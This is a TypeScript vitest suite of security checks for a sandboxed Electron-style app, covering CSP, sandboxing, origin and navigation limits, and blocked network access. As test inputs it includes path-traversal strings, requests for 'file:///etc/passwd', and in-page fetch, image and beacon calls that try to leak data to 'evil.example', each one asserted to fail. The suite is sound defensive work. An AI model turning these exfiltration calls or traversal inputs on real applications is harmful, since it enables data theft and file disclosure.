/// <reference lib="dom" />
import { expect } from 'vitest'
import { createFakeEngine } from './fake-engine.ts'
import { BESIDE } from './fixture-pages.ts'
import { startMain, type LaunchedShell } from './launch-shell.ts'
import type { ShellCheck } from './shell-check.ts'
import { SOON } from './soon.ts'

async function respond(shell: LaunchedShell, url: string, method = 'GET'): Promise<{ status: number; headers: Headers; body: string }> {
  const handler = shell.shim.shell.session.handlers.get('app')
  if (handler === undefined) throw new Error('nothing answers app://')
  const response = await handler({ url, method } as Request)
  return { status: response.status, headers: response.headers, body: await response.text() }
}

/** What the page and its window may do. */
export const PAGE_CHECKS: readonly ShellCheck[] = [
  {
    rule: 'the page has nothing of Node and nothing of Electron',
    async run({ page }) {
      const names = ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer', 'setImmediate']
      expect(await page.evaluate((all) => all.filter((name) => name in globalThis), names)).toEqual([])
    },
  },
  {
    rule: 'the window is sandboxed, isolated, without Node, and guarded as the web is',
    async run({ window }) {
      expect(window.options.webPreferences).toEqual({
        preload: expect.stringMatching(/preload[/\\]index\.cjs$/) as string,
        contextIsolation: true,
        sandbox: true,
        nodeIntegration: false,
        webSecurity: true,
        webviewTag: false,
        spellcheck: false,
      })
    },
  },
  {
    rule: 'every process of a page is sandboxed, whatever a window asks for',
    async run({ shim }) {
      expect(shim.shell.sandboxed).toBe(true)
    },
  },
  {
    rule: "the window's scheme has no privilege beyond a page's needs",
    async run({ shim }) {
      expect(shim.shell.schemes).toEqual([
        { scheme: 'app', privileges: { standard: true, secure: true, supportFetchAPI: true, stream: true } },
      ])
    },
  },
  {
    rule: 'nothing outside the window goes out',
    async run(shell) {
      for (const path of ['..%2fbeside.html', '..%2frenderer-2%2fbeside.html', 'assets%2f..%2f..%2fbeside.html', 'link.html']) {
        const { status, body } = await respond(shell, `app://tagbench/${path}`)
        expect([path, status, body]).toEqual([path, 404, ''])
      }
      for (const path of ['%2e%2e/beside.html', '..%5cbeside.html', 'notes.sqlite', 'assets', 'assets/', '%zz'])
        expect((await respond(shell, `app://tagbench/${path}`)).body).not.toContain(BESIDE)
    },
  },
  {
    rule: 'a backslash is in no name',
    async run(shell) {
      expect((await respond(shell, 'app://tagbench/a%5cb.html')).status).toBe(404)
    },
  },
  {
    rule: 'only the own origin has pages',
    async run(shell) {
      for (const origin of ['app://other', 'app://tagbench.evil', 'app://tagbench:1', 'app://x.tagbench'])
        expect((await respond(shell, `${origin}/index.html`)).status).toBe(404)
      expect((await respond(shell, 'app://tagbench/')).status).toBe(200)
    },
  },
  {
    rule: 'pages are read only',
    async run(shell) {
      for (const method of ['POST', 'PUT', 'DELETE']) expect((await respond(shell, 'app://tagbench/', method)).status).toBe(404)
    },
  },
  {
    rule: 'the policy lets a page run and load its own files only',
    async run(shell) {
      const { headers, body } = await respond(shell, 'app://tagbench/')
      const nonce = /name="csp-nonce" content="([^"]+)"/.exec(body)?.[1] ?? 'none'
      expect(headers.get('content-security-policy')).toBe(
        `default-src 'none'; script-src 'self'; style-src 'self' 'nonce-${nonce}'; img-src 'self' data: blob:; font-src 'self'; connect-src 'self'; worker-src 'self'; frame-src 'self' blob:; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; object-src 'none'`,
      )
      expect(headers.get('x-content-type-options')).toBe('nosniff')
    },
  },
  {
    rule: 'a script inside the page does not run, one of its own files does',
    async run({ page }) {
      const ran = await page.evaluate(async () => {
        const world = globalThis as unknown as { readonly ran?: string }
        const script = document.createElement('script')
        script.textContent = 'globalThis.ran = "inline"'
        document.body.append(script)
        const button = document.createElement('button')
        button.setAttribute('onclick', 'globalThis.ran = "attribute"')
        document.body.append(button)
        button.click()
        // Later, and so outside of the test's own evaluation, which the policy does not bind.
        const evaluated = await new Promise((resolve) =>
          setTimeout(() => {
            try {
              resolve(new Function('return true')())
            } catch {
              resolve(false)
            }
          }, 0),
        )
        return [world.ran, evaluated]
      })
      expect(ran).toEqual([undefined, false])
      expect(await page.evaluate(() => document.querySelectorAll('script[src]').length)).toBeGreaterThan(0)
    },
  },
  {
    rule: 'nothing is fetched from a network',
    async run({ shim, page }) {
      for (const url of [
        'https://evil.example/x',
        'http://127.0.0.1:9/',
        'wss://evil.example/',
        'file:///etc/passwd',
        'ftp://evil.example/',
      ])
        expect([url, await shim.shell.session.isCancelled(url)]).toEqual([url, true])
      for (const url of ['app://other/', 'blob:https://evil.example/1', 'app://tagbench.evil/x.js'])
        expect([url, await shim.shell.session.isCancelled(url)]).toEqual([url, true])
      for (const url of ['app://tagbench/', 'app://tagbench/assets/page.js', 'blob:app://tagbench/1', 'data:,'])
        expect([url, await shim.shell.session.isCancelled(url)]).toEqual([url, false])
      const tried = await page.evaluate(async () => {
        const failed = await fetch('https://evil.example/leak?who=jane').then(
          () => 'reached',
          () => 'failed',
        )
        const image = new Image()
        const loaded = new Promise((resolve) => {
          image.addEventListener('load', () => resolve('reached'))
          image.addEventListener('error', () => resolve('failed'))
        })
        image.src = 'https://evil.example/leak.png'
        navigator.sendBeacon?.('https://evil.example/beacon', 'jane')
        return [failed, await loaded]
      })
      expect(tried).toEqual(['failed', 'failed'])
      expect(shim.shell.session.network).toEqual([])
    },
  },
  ...(['will-navigate', 'will-frame-navigate', 'will-redirect'] as const).map((name): ShellCheck => ({
    rule: `the page goes nowhere else (${name})`,
    async run({ contents }) {
      for (const url of [
        'https://evil.example/',
        'app://tagbench.evil/',
        'app://other/',
        'file:///etc/passwd',
        'javascript:1',
        'data:text/html,x',
      ])
        expect([url, contents.ask(name, url)]).toEqual([url, true])
      expect(contents.ask(name, 'app://tagbench/?opened=1')).toBe(false)
    },
  })),
  {
    rule: 'only a report of its own text is shown in a frame',
    async run({ contents }) {
      expect(contents.ask('will-frame-navigate', 'about:srcdoc', false)).toBe(false)
      expect(contents.ask('will-frame-navigate', 'about:srcdoc', true)).toBe(true)
      for (const url of ['https://evil.example/', 'about:blank#x', 'file:///etc/passwd'])
        expect([url, contents.ask('will-frame-navigate', url, false)]).toEqual([url, true])
    },
  },
  {
    rule: 'no page is embedded',
    async run({ contents }) {
      expect(contents.ask('will-attach-webview', 'app://tagbench/')).toBe(true)
    },
  },
  {
    rule: 'a page that tries to go elsewhere stays where it is',
    async run({ page, contents, shim }) {
      const before = page.url()
      await page.evaluate(() => void (location.href = 'https://evil.example/away'))
      await expect.poll(() => contents.navigations.at(-1), SOON).toEqual({ url: 'https://evil.example/away', prevented: true })
      expect([page.url(), shim.shell.session.network]).toEqual([before, []])
    },
  },
  {
    rule: 'no window is opened by a page',
    async run({ page, contents }) {
      const before = contents.popups.length
      await page.evaluate(() => {
        for (const url of ['https://evil.example/', 'about:blank']) window.open(url)
      })
      await expect.poll(() => contents.popups.length, SOON).toBe(before + 2)
      expect(contents.popups.slice(before).map(({ action }) => action)).toEqual(['deny', 'deny'])
    },
  },
  {
    rule: 'no permission is given when it is asked for',
    async run({ shim }) {
      for (const permission of ['media', 'geolocation', 'notifications', 'clipboard-read', 'openExternal', 'fileSystem'])
        expect(await shim.shell.session.isPermitted(permission)).toBe(false)
    },
  },
  {
    rule: 'no permission is there without being asked for',
    async run({ shim }) {
      expect(shim.shell.session.isPermittedUnasked('media')).toBe(false)
    },
  },
  {
    rule: 'no device is given',
    async run({ shim }) {
      expect(shim.shell.session.isDevicePermitted()).toBe(false)
    },
  },
  {
    rule: 'nothing is downloaded',
    async run({ shim }) {
      expect(shim.shell.session.downloads()).toBe(false)
    },
  },
  {
    rule: 'the menu leads to no web page and no developer tools',
    async run({ shim }) {
      const roles = JSON.stringify(shim.Menu.template)
      expect(roles).toContain('togglefullscreen')
      expect(roles).not.toMatch(/toggleDevTools|help|about:|http/i)
    },
  },
  {
    rule: 'a second start opens no second window, and touches no project',
    async run(_shell, root) {
      const { shim, end } = await startMain({ root, firstInstance: false }, createFakeEngine())
      const { locks, quits, windows, engines } = shim.shell
      await end()
      expect([locks, quits, windows.length, engines.length]).toEqual([1, 1, 0, 0])
    },
  },
]
